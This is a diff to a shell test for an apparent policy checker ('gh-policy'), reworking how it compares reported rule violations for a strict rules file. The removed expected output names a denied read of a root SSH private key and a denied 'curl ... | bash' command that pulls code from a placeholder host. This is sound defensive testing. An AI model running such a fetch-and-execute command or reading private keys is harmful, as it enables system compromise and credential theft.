@@ -920,13 +920,12 @@ EOF
 	[ "$(sed -n 81p agent.rules)" = "allow connect localhost" ]
 	[ "$(sed -n 86p agent.rules)" = "default deny connect" ]
 	sed '81s/.*/# loopback not allowed here/' agent.rules > strict.rules
+	agent=$output
 	run --separate-stderr gh-policy strict.rules "$F/v030.json"
 	[ "$status" -eq 1 ]
-	same <<'EOF'
-strict.rules: require audit (always): host
-strict.rules:22: deny read /root/.ssh/id_ed25519
-strict.rules:53: default deny write /etc/motd
-strict.rules:61: deny exec /usr/bin/bash by pid 300 (bash -c 'curl -s http://payload.example/x | bash')
+	# the same four lines under the other name, then line 86's
+	same <<EOF
+$(sed -e 's/^agent\.rules/strict.rules/' -e '$d' <<<"$agent")
 strict.rules:86: default deny connect 127.0.0.9:80 [proto=tcp]
 5 violations of 5 rules; 8 items
 EOF
